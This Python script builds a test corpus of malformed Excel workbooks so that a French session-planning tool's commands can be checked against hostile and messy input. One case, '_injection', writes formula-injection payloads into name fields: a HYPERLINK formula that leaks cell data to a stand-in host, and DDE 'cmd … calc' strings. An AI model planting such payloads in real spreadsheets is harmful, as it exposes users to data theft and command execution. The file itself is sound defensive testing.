"""Build `tests/corpus/`: broken or odd workbooks, as advisers' hands and tools make them.

Each case is a folder holding `classeur.xlsx` (and, for the "open in Excel" case, Excel's lock file)
built from the demo data or a blank workbook, with a short French description of what it is. The
hostile-input tests (`tests/test_hostile.py`) run every command on every case; the corpus is
generated, never committed (it is in .gitignore).

    python scripts/build_corpus.py [dossier]
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from openpyxl import Workbook as PlainWorkbook
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from ccc_xl import contract as c  # noqa: E402
from ccc_xl import demo as demo_data  # noqa: E402
from ccc_xl.commands import rotations, run_on_file  # noqa: E402
from ccc_xl.workbook.build import create_workbook  # noqa: E402
from ccc_xl.workbook.file import BACKUP_FOLDER, FileBackend  # noqa: E402

CORPUS = ROOT / "tests" / "corpus"
WORKBOOK = "classeur.xlsx"
TODAY = dt.date(2026, 11, 26)  # the demo's coming session is then 2027, as in tests/conftest.py
COMING = TODAY.year + 1
PARTICIPANTS = 4  # a small coming session keeps every planning quick
COMPANIES = 6  # three binômes: the fewest for three interviews each


@dataclass(frozen=True)
class Case:
    """One corpus workbook: how to build it, what it is, what every command must say about it.

    ``refused``: every command on a workbook must stop (exit status 1), or only the commands
    named (CLI names, "rotations-verifier" for ``rotations --verifier``). ``where``: words the
    command's messages must contain (sheet, row, column) when it reads ``table``.
    """

    name: str
    description: str
    build: Callable[[Path], None]
    refused: bool | tuple[str, ...] = False
    where: tuple[str, ...] = ()
    table: c.Table | None = None

    def refuses(self, command: str) -> bool:
        return self.refused is True or (isinstance(self.refused, tuple) and command in self.refused)


PLANNING = ("rotations", "rotations-verifier")  # commands that need participants and companies
SESSION = (*PLANNING, "documents", "bilan")  # commands that work on one session
WRITERS = (*PLANNING, "documents", "eligibilite", "suivi", "indicateurs", "purger")  # not the bilan, not the export


def small_rows() -> dict[c.Table, list[dict]]:
    """The demo data with a small coming session: past years whole, 4 participants, 4 companies."""
    rows = demo_data.build(TODAY).rows
    tables = {t: list(rows.get(t.name, [])) for t in c.INPUT_TABLES}
    coming = [r for r in tables[c.CANDIDATES] if r["session"] == COMING]
    kept = [r for r in coming if r["retained"]][:PARTICIPANTS] + [r for r in coming if not r["retained"]][:3]
    tables[c.CANDIDATES] = [r for r in tables[c.CANDIDATES] if r["session"] != COMING] + kept
    firms = [r for r in tables[c.COMPANIES] if r["session"] == COMING][:COMPANIES]
    tables[c.COMPANIES] = [r for r in tables[c.COMPANIES] if r["session"] != COMING] + firms
    return tables


def write_rows(path: Path, rows: dict[c.Table, list[dict]]) -> Path:
    """A fresh ccc-xl workbook at ``path`` holding ``rows`` (what tests' ``workbook_with`` does)."""
    path.write_bytes(_blank_bytes())
    backend = FileBackend(path)
    for table, table_rows in rows.items():
        backend.fill_table(table, [[r.get(k) for k in table.keys] for r in table_rows])
    backend.save(backup=False)
    return path


def coming_rows(rows, table):
    """Rows of ``table`` in the coming session, in order (they are the ones commands work on)."""
    return [r for r in rows[table] if r.get("session") == COMING]


def with_rows(change: Callable[[dict], None]) -> Callable[[Path], None]:
    """A builder: the small demo data, changed in memory by ``change`` before it is written."""

    def build(path: Path) -> None:
        rows = small_rows()
        change(rows)
        write_rows(path, rows)

    return build


def edited(change: Callable[[object], None]) -> Callable[[Path], None]:
    """A builder: the small demo workbook, then edited with openpyxl by ``change(wb)``."""

    def build(path: Path) -> None:
        path.write_bytes(_small_bytes())
        wb = load_workbook(path)
        change(wb)
        wb.save(path)

    return build


def raw_bytes(content: Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(content())

    return build


@functools.cache
def _blank_bytes() -> bytes:
    buffer = CORPUS_TMP / "vierge.xlsx"
    create_workbook(buffer, overwrite=True)
    return buffer.read_bytes()


@functools.cache
def _small_bytes() -> bytes:
    """The small demo workbook with its interviews planned, as an adviser's would be mid-year."""
    buffer = CORPUS_TMP / "base.xlsx"
    with_rows(lambda rows: None)(buffer)
    run_on_file(buffer, "rotations", rotations)
    shutil.rmtree(buffer.parent / BACKUP_FOLDER)
    return buffer.read_bytes()


CORPUS_TMP = Path("/nonexistent")  # set by build_corpus to a scratch folder


# --- Edits ---------------------------------------------------------------------------------

def header_cell(ws, table: c.Table, key: str):
    header = next(col.header for col in table.columns if col.key == key)
    return next(cell for cell in ws[1] if cell.value == header)


def set_cells(table: c.Table, key: str, values: list, first_row: int = 2):
    """Edit: write ``values`` down one column of a table, as typed text or numbers (never formulas
    unless the value is one)."""

    def change(wb):
        ws = wb[table.sheet]
        column = header_cell(ws, table, key).column
        for offset, value in enumerate(values):
            ws.cell(first_row + offset, column).value = value

    return change


def candidate_row(rows: dict, position: int = 0) -> dict:
    return coming_rows(rows, c.CANDIDATES)[position]


def _rename_header(table, key, new):
    return lambda wb: setattr(header_cell(wb[table.sheet], table, key), "value", new)


def _drop_table(wb, table=c.CANDIDATES):
    del wb[table.sheet].tables[table.name]


def _rename_table(wb):
    tables = wb[c.CANDIDATES.sheet].tables
    table = tables.pop(c.CANDIDATES.name)
    table.displayName = table.name = "Tableau1"
    tables.add(table)


def _blank_formatted_rows(wb, count=50_000):
    """The table stretched over ``count`` rows that only carry formats (a whole column formatted)."""
    ws = wb[c.CANDIDATES.sheet]
    table = ws.tables[c.CANDIDATES.name]
    last = ws.max_row + count
    table.ref = f"A1:{table.ref.split(':')[1].rstrip('0123456789')}{last}"
    fill = PatternFill("solid", fgColor="FFF2CC")
    date_column = header_cell(ws, c.CANDIDATES, "birth_date").column
    for row in range(ws.max_row + 1, last + 1):
        ws.cell(row, date_column).number_format = c.DATE_FORMAT
        ws.cell(row, 1).fill = fill


def _merge(wb):
    wb[c.CANDIDATES.sheet].merge_cells("C3:D4")


def _swap_columns(wb):
    """"Nom" and "Prénom" swapped, header and data (columns are matched by header, not place)."""
    ws = wb[c.CANDIDATES.sheet]
    a = header_cell(ws, c.CANDIDATES, "last_name").column
    b = header_cell(ws, c.CANDIDATES, "first_name").column
    for row in range(1, ws.max_row + 1):
        ws.cell(row, a).value, ws.cell(row, b).value = ws.cell(row, b).value, ws.cell(row, a).value


def _extra_column(wb):
    """An adviser's own column added inside the table, and an own sheet with notes and a comment."""
    ws = wb[c.CANDIDATES.sheet]
    table = ws.tables[c.CANDIDATES.name]
    end_col = table.ref.split(":")[1].rstrip("0123456789")
    from openpyxl.utils import column_index_from_string, get_column_letter

    new = column_index_from_string(end_col) + 1
    ws.cell(1, new, "Mon suivi perso")
    for row in range(2, ws.max_row + 1):
        ws.cell(row, new, f"note {row} : appeler l'avocat ☎")
    table.ref = f"A1:{get_column_letter(new)}{table.ref.split(':')[1].lstrip('ABCDEFGHIJKLMNOPQRSTUVWXYZ')}"
    table.tableColumns = []
    table._initialise_columns()
    for index, cell in enumerate(ws[1][: new]):
        table.tableColumns[index].name = str(cell.value)
    own = wb.create_sheet("Mes notes", 2)
    own["A1"], own["B2"] = "Notes de Claire", dt.datetime(2026, 5, 4)
    own["B2"].number_format = "dd mmm yyyy"
    own["A3"] = "=B2+30"
    ws["B2"].comment = Comment("Vérifier l'année avec le SPIP", "Claire")


def _hide_and_protect(wb):
    ws = wb[c.CANDIDATES.sheet]
    ws.row_dimensions[3].hidden = True
    wb[c.COMPANIES.sheet].protection.sheet = True
    wb[c.PARTNERS.sheet].sheet_state = "hidden"
    wb.move_sheet(c.FUNDING.sheet, offset=-10)


def _drop_sheet(sheet):
    return lambda wb: wb.remove(wb[sheet])


def _drop_marker(wb):
    del wb.defined_names[c.MARKER_NAME]


def _empty_table(table):
    def change(rows):
        rows[table] = []

    return change


def _encrypted() -> bytes:
    """What Excel writes for "Encrypt with password": an OLE file (msoffcrypto-tool, agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    locked = io.BytesIO()
    OOXMLFile(io.BytesIO(_small_bytes())).encrypt("secret", locked)
    return locked.getvalue()


def _truncated() -> bytes:
    data = _small_bytes()
    return data[: len(data) // 2]


def _docx_renamed() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document>Convocation</document>")
    return buffer.getvalue()


def _broken_xml() -> bytes:
    data = io.BytesIO(_small_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(data) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/workbook.xml":
                content = content[: len(content) // 2]
            target.writestr(info, content)
    return out.getvalue()


def _plain_workbook() -> bytes:
    buffer = io.BytesIO()
    wb = PlainWorkbook()
    wb.active["A1"], wb.active["A2"] = "Nom", "Dupont"
    wb.save(buffer)
    return buffer.getvalue()


def _lock_file(path: Path) -> None:
    path.write_bytes(_small_bytes())
    path.with_name("~$" + path.name).write_bytes(b"\x0bClaire Fontaine" + b" " * 40)


def _directory(path: Path) -> None:
    path.mkdir()


def _missing(path: Path) -> None:
    """Nothing at all: the adviser typed a wrong name."""


# --- Data edits (rows in memory) -----------------------------------------------------------

DATE_TEXTS = ["03/05/2001", "3-5-01", "03.05.2001", "2001-05-03", "3 mai 2001", "03/05/01", "le 3 mai 2001",
              "3 MAI 2001", "03 / 05 / 2001", 36999, "36999", "31/02/2001", "mai 2001", "3 mai", "hier"]


def _dates_as_text(rows):
    for index, row in enumerate(coming_rows(rows, c.CANDIDATES)):
        row["birth_date"] = DATE_TEXTS[index % len(DATE_TEXTS)]
    extra = []
    for index, text in enumerate(DATE_TEXTS):
        row = dict(candidate_row(rows), id=f"C{COMING}-T{index:02d}", retained=False, birth_date=text,
                   expected_release=text, application_date=text)
        extra.append(row)
    rows[c.CANDIDATES].extend(extra)


def _session_dates_as_text(rows):
    session = rows[c.SESSIONS][-1]
    session.update(coaching_start=session["coaching_start"].strftime("%d/%m/%Y"),
                   interviews_date=session["interviews_date"].strftime("%d.%m.%y"),
                   grand_oral_date=f"{session['grand_oral_date'].day} mars {COMING}",
                   day_start="9h", lunch_start="12:00", lunch_end="13 h 30", grand_oral_start="midi")


def _out_of_range_dates(rows):
    candidate_row(rows)["birth_date"] = "01/01/2300"
    candidate_row(rows, 1)["expected_release"] = "15/06/1600"
    candidate_row(rows, 2)["application_date"] = "31/12/9999"


def _huge_numbers(rows):
    rows[c.SESSIONS][-1]["capacity"] = "99999999999999999999999"
    rows[c.SESSIONS][-1]["rooms"] = "inf"
    rows[c.SESSIONS][-1]["interview_minutes"] = "nan"
    rows[c.FUNDING][-1]["amount"] = "1e400"


def _numbers_as_text(rows):
    session = rows[c.SESSIONS][-1]
    session.update(capacity="10 ", rooms=" 6", interview_minutes="20,0", budget="15 000 €", max_age="trente")


def _odd_yes_no(rows):
    values = ["oui ", "X", "1", "Vrai", "peut-être", "NON", "o", "?"]
    for index, row in enumerate(coming_rows(rows, c.CANDIDATES)):
        row["motivated"] = values[index % len(values)]
        row["behaviour_ok"] = values[(index + 4) % len(values)]


def _odd_choices(rows):
    candidate_row(rows)["domain"] = "f - construction, BÂTIMENT et travaux publics"
    candidate_row(rows, 1)["domain"] = "Boulangerie"
    candidate_row(rows, 2)["referrer"] = "spip"
    coming_rows(rows, c.COMPANIES)[0]["type"] = "SARL"


def _injection(rows):
    payloads = ['=HYPERLINK("http://exemple.invalid/?"&A2,"cliquez")', "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r\n=2+2"]
    for index, row in enumerate(coming_rows(rows, c.CANDIDATES)):
        row["last_name"] = payloads[index % len(payloads)]
        row["first_name"] = payloads[(index + 1) % len(payloads)]
        row["notes"] = payloads[(index + 2) % len(payloads)]
    for index, row in enumerate(coming_rows(rows, c.COMPANIES)):
        row["name"] = payloads[index % len(payloads)]
        row["representatives"] = payloads[(index + 3) % len(payloads)]


def _long_cells(rows):
    text = ("Très long commentaire d'entretien ; " * 300)[:10_000]
    for row in coming_rows(rows, c.CANDIDATES):
        row["notes"] = text
        row["project"] = text
    coming_rows(rows, c.COMPANIES)[0]["name"] = text
    rows[c.SESSIONS][-1]["place"] = text


def _emoji_rtl(rows):
    names = [("محمد", "العربي"), ("שלום", "כהן"), ("Zoé 🎉", "N'Guessan 👨‍👩‍👧"), ("Ĳsbrand", "Œuvray"), ("‮Inversé", "Ⅻ")]
    for (first, last), row in zip(names, coming_rows(rows, c.CANDIDATES)):
        row["first_name"], row["last_name"] = first, last
    coming_rows(rows, c.COMPANIES)[1]["name"] = "شركة البناء 🏗️"
    rows[c.SESSIONS][-1]["place"] = "Salle 🅰 — ‏قاعة"


def _xml_specials(rows):
    specials = ["O'Brien & <Fils>", 'Dupont "le grand"', "A&B <i>gras</i>", "]]>", "&amp; déjà échappé"]
    for value, row in zip(specials, coming_rows(rows, c.CANDIDATES)):
        row["last_name"] = value
    coming_rows(rows, c.COMPANIES)[0]["name"] = "Boulangerie <Martin> & \"Fils\" 'SARL'"


def _duplicate_ids(rows):
    first, second = coming_rows(rows, c.CANDIDATES)[:2]
    second["id"] = first["id"]


def _duplicate_company_ids(rows):
    first, second = coming_rows(rows, c.COMPANIES)[:2]
    second["id"] = first["id"]


def _two_sessions(rows):
    past = next(r for r in rows[c.CANDIDATES] if r["session"] == 2023 and r["retained"])
    rows[c.CANDIDATES].append(dict(past, session=COMING, application_date=None))


def _same_person_two_ids(rows):
    source = candidate_row(rows)
    rows[c.CANDIDATES].append(dict(source, id=f"C{COMING}-99"))


def _formula_cells(wb):
    ws = wb[c.CANDIDATES.sheet]
    birth = header_cell(ws, c.CANDIDATES, "birth_date").column
    project = header_cell(ws, c.CANDIDATES, "project").column
    ws.cell(ws.max_row, birth).value = "=DATE(2001;5;3)"
    ws.cell(ws.max_row - 1, birth).value = "=DATE(2001,5,3)"
    ws.cell(ws.max_row, project).value = '=CONCATENATE("Maçon";" coffreur")'
    sessions = wb[c.SESSIONS.sheet]
    sessions.cell(sessions.max_row, header_cell(sessions, c.SESSIONS, "capacity").column).value = "=5+5"


def _error_cells(wb):
    ws = wb[c.CANDIDATES.sheet]
    for key, value in (("birth_date", "#N/A"), ("motivated", "#VALUE!"), ("session", "#REF!"), ("domain", "#N/A")):
        ws.cell(ws.max_row, header_cell(ws, c.CANDIDATES, key).column).value = value
    companies = wb[c.COMPANIES.sheet]
    companies.cell(companies.max_row, header_cell(companies, c.COMPANIES, "arrival").column).value = "#DIV/0!"


def _blank_ids(rows):
    candidate_row(rows)["id"] = None
    candidate_row(rows, 1)["id"] = "   "
    coming_rows(rows, c.COMPANIES)[0]["id"] = None


def _whitespace(rows):
    for row in coming_rows(rows, c.CANDIDATES):
        row["last_name"] = f"\u00a0 {row['last_name']}\u202f "
        row["id"] = f" {row['id']}\t"
    rows[c.SESSIONS][-1]["year"] = f" {COMING} "


def _no_session_year(rows):
    rows[c.SESSIONS][-1]["year"] = "deux mille vingt-sept"


def _no_participant(rows):
    for row in coming_rows(rows, c.CANDIDATES):
        row["retained"] = False


def _no_company(rows):
    rows[c.COMPANIES] = [r for r in rows[c.COMPANIES] if r["session"] != COMING]


def _impossible_day(rows):
    rows[c.SESSIONS][-1].update(rooms=1, interviews_per_participant=9, lunch_start=dt.time(9, 30))


def _unavailability(rows):
    texts = ["toute la journée", "10:00-09:00", "25:00-26:00", "9h-", "14h30 à 15h ; =cmd"]
    for text, row in zip(texts, coming_rows(rows, c.CANDIDATES)):
        row["unavailability"] = text


def _fixed_pairs(rows):
    firms = coming_rows(rows, c.COMPANIES)
    for index, row in enumerate(firms):
        row["fixed_pair"] = "A" if index < 3 else "=B"
    firms[0]["arrival"], firms[0]["departure"] = "16h", "9h"


def _header_spacing(wb):
    ws = wb[c.CANDIDATES.sheet]
    for key, text in (("birth_date", "  date DE naissance "), ("last_name", "NOM"), ("first_name", "prénom")):
        header_cell(ws, c.CANDIDATES, key).value = text


# --- The corpus ----------------------------------------------------------------------------

CASES: tuple[Case, ...] = (
    # Files that are not a usable .xlsx
    Case("fichier-vide", "Fichier de zéro octet nommé .xlsx.", raw_bytes(lambda: b""), refused=True, where=(WORKBOOK,)),
    Case("zip-tronque", "Classeur coupé au milieu (copie interrompue, clé USB retirée).", raw_bytes(_truncated), refused=True, where=(WORKBOOK,)),
    Case("csv-renomme", "Export CSV renommé en .xlsx.", raw_bytes(lambda: "Nom;Prénom\nDupont;Léa\n".encode("cp1252")), refused=True, where=(WORKBOOK,)),
    Case("xls-renomme", "Ancien classeur Excel 97-2003 (.xls) renommé en .xlsx.",
         raw_bytes(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4088), refused=True, where=(WORKBOOK, ".xls")),
    Case("mot-de-passe", "Classeur protégé par un mot de passe d'ouverture (fichier chiffré).",
         raw_bytes(_encrypted), refused=True, where=(WORKBOOK, "mot de passe")),
    Case("docx-renomme", "Document Word renommé en .xlsx (une archive zip, mais pas un classeur).",
         raw_bytes(_docx_renamed), refused=True, where=(WORKBOOK,)),
    Case("xml-casse", "Classeur dont la description interne (workbook.xml) est coupée.", raw_bytes(_broken_xml), refused=True, where=(WORKBOOK,)),
    Case("classeur-etranger", "Classeur Excel ordinaire, pas créé par ccc-xl.", raw_bytes(_plain_workbook), refused=True, where=("ccc-xl",)),
    Case("ouvert-dans-excel", "Classeur ouvert dans Excel sur un autre poste (fichier verrou ~$ à côté) : les commandes "
         "qui écrivent refusent, le bilan et l'export lisent la dernière version enregistrée.", _lock_file,
         refused=WRITERS, where=("ouvert dans Excel",)),
    Case("dossier", "Un dossier nommé classeur.xlsx.", _directory, refused=True, where=("dossier",)),
    Case("absent", "Aucun fichier à ce nom (faute de frappe).", _missing, refused=True, where=("introuvable",)),
    # Structure changed by hand
    Case("sans-marqueur", "Classeur ccc-xl dont le nom défini cccxl_version a été supprimé.", edited(_drop_marker), refused=True, where=("ccc-xl",)),
    Case("feuille-candidats-absente", "Feuille « Candidats » supprimée.", edited(_drop_sheet("Candidats")), refused=True, where=("Candidats",)),
    Case("feuille-sessions-absente", "Feuille « Sessions » supprimée.", edited(_drop_sheet("Sessions")), refused=True, where=("Sessions",)),
    Case("feuille-journal-absente", "Feuille « Journal » supprimée.", edited(_drop_sheet("Journal"))),
    Case("entete-obligatoire-renomme", "En-tête obligatoire « Nom » renommé « Nom de famille ».",
         edited(_rename_header(c.CANDIDATES, "last_name", "Nom de famille")), refused=True, where=("Candidats", "« Nom »", "ligne 1")),
    Case("entete-facultatif-renomme", "En-tête facultatif « Observations » renommé « Remarques ».",
         edited(_rename_header(c.CANDIDATES, "notes", "Remarques")),
         refused=("purger",), where=("Candidats", "« Observations »", "ligne 1")),
    Case("entete-calcule-renomme", "En-tête de colonne calculée « Binôme » renommé.",
         edited(_rename_header(c.COMPANIES, "pair", "Binôme retenu")), refused=(*SESSION, "indicateurs", "export-financeurs"), where=("Entreprises", "« Binôme »")),
    Case("entete-duplique", "Deux colonnes « ID » dans le tableau des candidats.",
         edited(_rename_header(c.CANDIDATES, "notes", "ID")), refused=True, where=("Candidats", "« ID »")),
    Case("entetes-casse-espaces", "En-têtes en majuscules, minuscules et espaces en trop.", edited(_header_spacing)),
    Case("colonnes-permutees", "Colonnes « Nom » et « Prénom » permutées (en-tête et données).", edited(_swap_columns)),
    Case("colonne-et-feuille-perso", "Colonne personnelle ajoutée au tableau, feuille personnelle, commentaire.", edited(_extra_column)),
    Case("tableau-en-plage", "Tableau des candidats converti en plage (Tableau > Convertir en plage).",
         edited(_drop_table), refused=True, where=("Candidats", "tblCandidats")),
    Case("tableau-renomme", "Tableau des candidats renommé « Tableau1 ».", edited(_rename_table), refused=True, where=("Candidats", "tblCandidats")),
    Case("cellules-fusionnees", "Cellules fusionnées au milieu du tableau des candidats.", edited(_merge), refused=True, where=("Candidats", "fusionnées")),
    Case("masque-protege-deplace", "Ligne masquée, feuille protégée sans mot de passe, feuille masquée, onglets déplacés.",
         edited(_hide_and_protect), refused=("rotations", "purger"), where=("Entreprises", "Ôtez la protection")),
    Case("50000-lignes-vides", "50 000 lignes vides mais mises en forme dans le tableau des candidats.", edited(_blank_formatted_rows)),
    # Empty tables
    Case("classeur-vierge", "Classeur vierge créé par « ccc-xl nouveau ».", lambda p: create_workbook(p, overwrite=True),
         refused=SESSION),
    Case("sessions-vide", "Tableau des sessions vide.", with_rows(_empty_table(c.SESSIONS)), refused=SESSION),
    Case("candidats-vide", "Tableau des candidats vide.", with_rows(_empty_table(c.CANDIDATES)), refused=PLANNING),
    Case("aucun-retenu", "Aucun candidat retenu pour la session.", with_rows(_no_participant), refused=PLANNING),
    Case("aucune-entreprise", "Aucune entreprise inscrite pour la session.", with_rows(_no_company), refused=PLANNING),
    # What advisers type
    Case("dates-en-texte", "Dates saisies comme texte dans tous les formats des conseillers.", with_rows(_dates_as_text),
         where=("Candidats", "Date de naissance", "31/02/2001"), table=c.CANDIDATES),
    Case("dates-session-en-texte", "Dates et heures de la session saisies comme texte (« 9h », « midi »).",
         with_rows(_session_dates_as_text), where=("Sessions", "Heure du Grand Oral", "midi"), table=c.SESSIONS),
    Case("dates-hors-limites", "Dates en l'an 1600, 2300 et 9999.", with_rows(_out_of_range_dates),
         where=("Candidats", "Date de naissance"), table=c.CANDIDATES),
    Case("nombres-geants", "Nombres géants, « inf » et « nan » dans les paramètres de la session.", with_rows(_huge_numbers),
         where=("Sessions", "Places"), table=c.SESSIONS),
    Case("nombres-en-texte", "Nombres saisis comme texte (« 10 », « 15 000 € », « trente »).", with_rows(_numbers_as_text),
         where=("Sessions", "Âge maximum", "trente"), table=c.SESSIONS),
    Case("oui-non-varies", "Oui/Non écrits de toutes les façons (« X », « 1 », « peut-être », « ? »).", with_rows(_odd_yes_no),
         where=("Candidats", "Motivation", "peut-être"), table=c.CANDIDATES),
    Case("listes-hors-liste", "Valeurs hors des listes déroulantes, ou en minuscules.", with_rows(_odd_choices),
         where=("Candidats", "Domaine visé", "Boulangerie"), table=c.CANDIDATES),
    Case("formules", "Formules dans des cellules de saisie (sans résultat enregistré).", edited(_formula_cells)),
    Case("erreurs-na", "#N/A, #VALUE!, #REF!, #DIV/0! dans des cellules de saisie.", edited(_error_cells),
         where=("Candidats", "Date de naissance", "erreur de formule"), table=c.CANDIDATES),
    Case("injection-formules", "Chaînes d'injection de formule (=, +, -, @, tabulation) dans les noms.", with_rows(_injection)),
    Case("cellules-10000", "Cellules de 10 000 caractères (observations, projet, lieu, raison sociale).", with_rows(_long_cells)),
    Case("emoji-rtl", "Emoji, arabe, hébreu, caractère de contrôle bidirectionnel dans les noms.", with_rows(_emoji_rtl)),
    Case("caracteres-xml", "Caractères & < > \" ' et « ]]> » dans les noms.", with_rows(_xml_specials)),
    Case("espaces-insecables", "Espaces insécables, tabulations et espaces autour des ID et de l'année.", with_rows(_whitespace)),
    Case("annee-en-lettres", "Année de session écrite en lettres.", with_rows(_no_session_year), refused=(*PLANNING, "documents"),
         where=("Sessions", "Année"), table=c.SESSIONS),
    Case("id-vides", "ID de candidat et d'entreprise vides.", with_rows(_blank_ids), where=("Candidats", "ID"), refused=("rotations",)),
    Case("id-candidat-duplique", "Deux candidats avec le même ID.", with_rows(_duplicate_ids), where=("Candidats", "ID"), refused=("rotations",)),
    Case("id-entreprise-duplique", "Deux entreprises avec le même ID dans la session.", with_rows(_duplicate_company_ids),
         where=("Entreprises", "ID entreprise"), refused=("rotations",)),
    Case("participant-deux-sessions", "Un participant de 2023 inscrit aussi dans la session en préparation (même ID).",
         with_rows(_two_sessions)),
    Case("meme-personne-deux-id", "La même personne saisie deux fois sous deux ID.", with_rows(_same_person_two_ids)),
    Case("journee-impossible", "Journée d'entretiens impossible (1 salle, 9 entretiens chacun, pause à 9h30).",
         with_rows(_impossible_day)),
    Case("indisponibilites-illisibles", "Indisponibilités illisibles ou à l'envers.", with_rows(_unavailability),
         where=("Candidats", "Indisponibilités"), refused=("rotations",)),
    Case("binomes-imposes-bizarres", "Binôme imposé à trois entreprises, arrivée après le départ.", with_rows(_fixed_pairs)),
)


def build_corpus(folder: Path = CORPUS) -> Path:
    """(Re)build every case under ``folder``/<name>/ and write an index of descriptions."""
    global CORPUS_TMP
    folder = Path(folder)
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    CORPUS_TMP = folder / ".tmp"
    CORPUS_TMP.mkdir()
    _blank_bytes.cache_clear()
    _small_bytes.cache_clear()
    for case in CASES:
        (folder / case.name).mkdir()
        case.build(folder / case.name / WORKBOOK)
    shutil.rmtree(CORPUS_TMP)
    write_readme(folder, "build_corpus.py", CASES)
    return folder


def write_readme(folder: Path, script: str, cases) -> None:
    """The corpus's LISEZMOI.txt: which script made it and what each case holds."""
    (folder / "LISEZMOI.txt").write_text(
        f"Corpus généré par scripts/{script} (ne pas modifier à la main).\n\n"
        + "".join(f"{case.name} : {case.description}\n" for case in cases), encoding="utf-8")


if __name__ == "__main__":
    target = build_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS)
    print(f"{len(CASES)} cas écrits dans {target}")
